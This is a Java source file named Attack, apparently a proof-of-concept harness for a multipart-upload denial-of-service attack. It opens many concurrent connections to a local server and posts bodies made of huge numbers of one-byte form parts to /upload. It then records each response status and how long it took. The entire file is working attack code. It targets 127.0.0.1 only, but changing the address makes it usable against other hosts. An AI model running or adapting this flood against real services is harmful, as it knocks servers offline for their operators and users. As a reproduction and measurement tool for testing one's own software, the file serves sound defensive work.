import java.io.BufferedOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;

/**
 * java Attack PORT PARTS CONCURRENCY [TIMEOUT_S]: sends CONCURRENCY requests at once, each of
 * PARTS one-byte parts (66 bytes each on the wire), written while the answer is read, and prints
 * for each its status line (or what went wrong) and the seconds it took.
 */
public final class Attack {
    static final String BOUNDARY = "MultipartAttack";

    public static void main(String[] args) throws Exception {
        int port = Integer.parseInt(args[0]);
        long parts = Long.parseLong(args[1]);
        int concurrency = Integer.parseInt(args[2]);
        int timeout = args.length > 3 ? Integer.parseInt(args[3]) : 300;
        ExecutorService pool = Executors.newCachedThreadPool();
        List<Future<String>> results = new ArrayList<>();
        for (int i = 0; i < concurrency; i++) {
            results.add(pool.submit(() -> one(port, parts, timeout)));
        }
        for (Future<String> f : results) {
            System.out.println(f.get());
        }
        pool.shutdownNow();
    }

    static String one(int port, long parts, int timeout) {
        byte[] part = ("--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\nx\r\n")
                .getBytes(StandardCharsets.ISO_8859_1);
        byte[] end = ("--" + BOUNDARY + "--\r\n").getBytes(StandardCharsets.ISO_8859_1);
        long length = parts * part.length + end.length;
        long start = System.nanoTime();
        try (Socket s = new Socket("127.0.0.1", port)) {
            s.setSoTimeout(timeout * 1000);
            OutputStream raw = s.getOutputStream();
            raw.write(("POST /upload HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
                    + "Content-Type: multipart/form-data; boundary=" + BOUNDARY + "\r\nContent-Length: " + length
                    + "\r\n\r\n").getBytes(StandardCharsets.ISO_8859_1));
            Thread writer = new Thread(() -> {
                try {
                    OutputStream out = new BufferedOutputStream(raw, 65536);
                    for (long i = 0; i < parts; i++) {
                        out.write(part);
                    }
                    out.write(end);
                    out.flush();
                } catch (IOException e) {
                    // the server answered and closed before taking the whole body
                }
            });
            writer.setDaemon(true);
            writer.start();
            InputStream in = s.getInputStream();
            StringBuilder head = new StringBuilder();
            int c;
            while ((c = in.read()) >= 0 && c != '\n') {
                head.append((char) c);
            }
            String status = head.length() == 0 ? "no response (connection closed)" : head.toString().trim();
            byte[] rest = in.readNBytes(4096);
            String text = new String(rest, StandardCharsets.UTF_8);
            int body = text.indexOf("\r\n\r\n");
            String snippet = body < 0 ? "" : text.substring(body + 4).replaceAll("<[^>]*>", " ").replaceAll("\\s+", " ").trim();
            return String.format("%s | %.2f s | %s", status, (System.nanoTime() - start) / 1e9,
                    snippet.length() > 160 ? snippet.substring(0, 160) : snippet);
        } catch (IOException e) {
            return String.format("%s | %.2f s", e, (System.nanoTime() - start) / 1e9);
        }
    }
}
